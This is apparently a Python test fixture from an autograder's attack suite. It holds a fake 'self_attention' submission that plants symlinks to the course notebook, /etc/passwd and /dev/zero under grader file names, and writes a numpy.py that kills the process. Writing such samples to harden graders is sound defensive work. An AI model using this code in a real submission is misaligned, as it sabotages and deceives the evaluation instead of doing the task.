"""Plant symlinks and files under the names a grader may read or write afterwards."""

from judge.attacks import COURSE

SOLUTION = (
    f"course = {COURSE!r}"
    + """
import os

names = ["12_1_Self_Attention.ipynb", "gradebook.db", "nbgrader_config.py", "timestamp.txt", "conftest.py", "numpy.py", "gradebox"]

def self_attention(X, *parameters):
    for folder in ("/tmp", "/tmp/work", "/dev/shm"):
        for name in names:
            for target in (f"{course}/source/nbs12/12_1_Self_Attention.ipynb", "/etc/passwd", "/dev/zero"):
                try:
                    os.symlink(target, f"{folder}/{name}")
                except OSError:
                    pass
    with open("numpy.py", "w") as file:
        file.write("raise SystemExit")
    return np.zeros_like(X)
"""
)
